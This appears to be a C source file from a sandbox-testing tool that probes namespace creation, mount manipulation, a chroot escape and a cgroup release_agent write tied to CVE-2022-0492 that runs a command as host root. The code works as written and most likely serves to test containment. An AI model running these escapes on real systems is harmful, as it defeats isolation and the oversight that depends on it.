// SPDX-License-Identifier: MIT
/* Namespaces and mounts: ways to take off what covers, to make writable what is not, to leave. */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "probe.h"

/* glibc 2.36 has these in <sys/mount.h>, which cannot be included beside <linux/mount.h> */
int mount(const char *, const char *, const char *, unsigned long, const void *);
int umount2(const char *, int);
enum {
	M_RDONLY = 1,
	M_REMOUNT = 32,
	M_BIND = 4096,
	M_MOVE = 8192,
	M_REC = 16384,
	M_SHARED = 1 << 20
};

/* Each kind of namespace, by unshare, by clone and by clone3. */
static int namespaces(int argc, char **argv)
{
	/* clang-format off */
	static const struct { const char *name; unsigned long flag; } rows[] = {
		{ "user", CLONE_NEWUSER }, { "mnt", CLONE_NEWNS }, { "pid", CLONE_NEWPID }, { "net", CLONE_NEWNET },
		{ "ipc", CLONE_NEWIPC }, { "uts", CLONE_NEWUTS }, { "cgroup", CLONE_NEWCGROUP }, { "time", 0x80 },
		{ "user+mnt", CLONE_NEWUSER | CLONE_NEWNS }, { "user+net", CLONE_NEWUSER | CLONE_NEWNET },
	};
	/* clang-format on */
	char what[64];

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		/* the struct of clone3(2), as long as its first version */
		unsigned long args[8] = { rows[i].flag, 0, 0, 0, 17 /* SIGCHLD */ };
		pid_t pid;

		fflush(stdout);
		pid = fork();
		if (pid == 0) {
			snprintf(what, sizeof(what), "unshare %s", rows[i].name);
			say(what, unshare((int)rows[i].flag));
			_exit(0);
		}
		(void)waitpid(pid, NULL, 0);
		pid = rows[i].flag == 0x80
			      ? -1
			      : (pid_t)syscall(SYS_clone, rows[i].flag | 17, 0, 0, 0, 0);
		if (pid == 0)
			_exit(0);
		snprintf(what, sizeof(what), "clone %s", rows[i].name);
		if (rows[i].flag != 0x80)
			say(what, pid);
		pid = (pid_t)syscall(SYS_clone3, args, sizeof(args));
		if (pid == 0)
			_exit(0);
		snprintf(what, sizeof(what), "clone3 %s", rows[i].name);
		say(what, pid);
		while (waitpid(-1, NULL, 0) > 0)
			;
	}
	return 0;
}

/* enter PATH...: setns(2) into each. */
static int enter(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY);

		say(argv[i], fd < 0 ? -1 : setns(fd, 0));
	}
	return 0;
}

/* Attempts to uncover a mount, and to open a read-only one for writing. */
static void uncover(const char *path)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID |
					       MOUNT_ATTR_NODEV };
	char what[256];
	int tree;

	snprintf(what, sizeof(what), "umount %s", path);
	say(what, umount2(path, 2 /* MNT_DETACH */));
	snprintf(what, sizeof(what), "remount %s", path);
	say(what, mount(NULL, path, NULL, M_REMOUNT | M_BIND, NULL));
	snprintf(what, sizeof(what), "remount the file system of %s", path);
	say(what, mount(NULL, path, NULL, M_REMOUNT, NULL));
	snprintf(what, sizeof(what), "setattr %s", path);
	say(what, syscall(SYS_mount_setattr, AT_FDCWD, path, 0x8000, &attr, sizeof(attr)));
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE);
	snprintf(what, sizeof(what), "open_tree %s", path);
	say(what, tree);
	snprintf(what, sizeof(what), "setattr a clone of %s", path);
	say(what,
	    tree < 0 ? -1
		     : syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)));
	snprintf(what, sizeof(what), "fspick %s", path);
	say(what, syscall(SYS_fspick, AT_FDCWD, path, 0));
}

/* mounts WHERE PATH...: new mounts onto WHERE, then uncover() for each PATH. With own namespaces if
 * they can be had. */
static int mounts(int argc, char **argv)
{
	static const char *const types[] = { "proc",    "sysfs",   "tmpfs",      "devpts",
					     "cgroup2", "cgroup",  "mqueue",     "overlay",
					     "debugfs", "tracefs", "securityfs", "binfmt_misc",
					     "bpf" };
	const char *where = argc > 0 ? argv[0] : "/tmp";
	char what[128];

	say("own namespaces", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	say("mount namespace", unshare(CLONE_NEWNS));
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		snprintf(what, sizeof(what), "mount %s", types[i]);
		say(what, mount("none", where, types[i], 0, NULL));
		snprintf(what, sizeof(what), "fsopen %s", types[i]);
		say(what, syscall(SYS_fsopen, types[i], 0));
	}
	say("bind", mount("/", where, NULL, M_BIND | M_REC, NULL));
	say("move", mount("/proc", where, NULL, M_MOVE, NULL));
	say("share", mount(NULL, "/", NULL, M_SHARED | M_REC, NULL));
	say("pivot_root", syscall(SYS_pivot_root, where, where));
	for (int i = 1; i < argc; i++)
		uncover(argv[i]);
	return 0;
}

/* leave PATH: the classic way out of a chroot, then prints what stands at PATH. */
static int leave(int argc, char **argv)
{
	char buf[256];
	int fd, old = open("/", O_RDONLY | O_DIRECTORY);
	ssize_t n;

	(void)mkdir("jail", 0755);
	say("chroot", chroot("jail"));
	say("fchdir", fchdir(old));
	for (int i = 0; i < 64; i++)
		(void)chdir("..");
	say("chroot again", chroot("."));
	fd = argc > 0 ? open(argv[0], O_RDONLY) : -1;
	n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));
	say("read", n);
	if (n > 0)
		printf("%.*s\n", (int)n, buf);
	return 0;
}

/* release-agent COMMAND WHERE: mounts a cgroup v1 hierarchy and has its agent run COMMAND as the
 * host's root (CVE-2022-0492). */
static int release_agent(int argc, char **argv)
{
	static const char *const options[] = { "rdma",   "misc", "perf_event",
					       "memory", "pids", "none,name=x" };
	char path[4096];
	bool mounted = false;

	if (argc < 2)
		return 99;
	say("namespaces", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	for (size_t i = 0; i < sizeof(options) / sizeof(options[0]) && !mounted; i++)
		mounted = say(options[i], mount("none", argv[1], "cgroup", 0, options[i])) == 0;
	for (int i = 0; i < 2; i++) {
		const char *const dirs[] = { argv[1], "/sys/fs/cgroup" };
		int fd;

		snprintf(path, sizeof(path), "%s/release_agent", dirs[i]);
		fd = open(path, O_WRONLY);
		say(path, fd < 0 ? -1 : write(fd, argv[0], strlen(argv[0])));
	}
	return 0;
}

const struct probe mount_probes[] = {
	{ "namespaces", namespaces, "" },
	{ "enter", enter, "PATH..." },
	{ "mounts", mounts, "WHERE PATH..." },
	{ "leave", leave, "PATH" },
	{ "release-agent", release_agent, "COMMAND WHERE" },
	{ 0 },
};
